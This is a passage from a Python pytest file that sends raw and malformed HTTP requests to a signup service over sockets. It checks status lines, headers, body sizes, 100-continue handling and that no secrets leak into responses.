        client.makefile("rb") as stream,
    ):
        with suppress(BrokenPipeError, ConnectionResetError):  # refused before all of it was sent
            client.sendall(request)
        if end:
            client.shutdown(socket.SHUT_WR)
        answers = [receive(stream, head=request.startswith(b"HEAD ")) for _ in range(count)]
        with suppress(OSError):
            client.shutdown(socket.SHUT_WR)
            assert stream.read() == b""
    return answers


def receive(stream: io.BufferedReader, head: bool) -> Answer:
    """The next answer, once it has been checked for what holds for all of them."""
    line = stream.readline()
    assert re.fullmatch(rb"HTTP/1\.[01] \d{3} [ -~]+\r\n", line), line
    headers = parse_headers(stream)
    status = int(line.split()[1])
    if status == 100:
        return receive(stream, head)
    size = int(headers["Content-Length"])
    body = b"" if head else stream.read(size)
    assert head or len(body) == size
    text = f"{headers}{body.decode(errors='replace')}"
    assert not SECRETS.search(text), text
    assert all(value.isascii() and value.isprintable() for value in headers.values()), text
    if headers["Content-Type"] != "application/json":
        assert headers["Content-Type"] == "text/html"
        assert headers["Connection"] == "close"
        return Answer(status)
    assert SANE_ID.fullmatch(headers["X-Request-ID"])
    allow = headers["Allow"] and ", ".join(sorted(headers["Allow"].split(", ")))
    return Answer(status, NOT_POST.json if head else json.loads(body), allow)


def check(service: Service, answers: list[Answer], expected: list[Answer]) -> None:
    service.answers.update(answer.status for answer in answers if answer.counts())
    assert answers == expected


@pytest.mark.parametrize("key", CASES)
def test_a_bad_request(service: Service, key: str) -> None:
    request, *expected = CASES[key]
    check(service, talk(service, request, len(expected), end="cut short" in key), expected)
    assert service.signup(data=new_user()).status_code == 201  # others are served as before


def test_all_bad_requests_at_once(service: Service) -> None:
    def send(key: str) -> list[Answer]:
        request, *expected = CASES[key]
        return talk(service, request, len(expected), end="cut short" in key)

    with ThreadPoolExecutor(16) as executor:
        results = list(executor.map(send, CASES))
    for key, answers in zip(CASES, results, strict=True):
        check(service, answers, list(CASES[key][1:]))


@pytest.mark.parametrize(("body", "status"), [(new_user(), 201), (b"x" * (LIMIT + 1), 413)])
def test_a_client_that_waits_to_be_asked_for_the_body(
    service: Service, body: bytes, status: int
) -> None:
    head, empty_line, _ = post(body, b"Expect: 100-continue").partition(b"\r\n\r\n")
    address = urlsplit(service.url)
    with socket.create_connection((address.hostname, address.port), timeout=30) as client:
        client.sendall(head + empty_line)
        answer = client.recv(1000)
        if status == 201:
            assert answer == b"HTTP/1.1 100 Continue\r\n\r\n"
            client.sendall(body)
            answer = client.recv(1000)
    assert answer.startswith(b"HTTP/1.1 %d " % status)
    service.answers[status] += 1


@pytest.mark.parametrize("key", FINE)
def test_a_strange_signup(service: Service, key: str) -> None:
    (answer,) = talk(service, FINE[key], 1)
    service.answers[answer.status] += 1
    assert answer.status == 201, answer
    if key.startswith("name: "):
        assert answer.json["user"]["last_name"] == key.removeprefix("name: ")
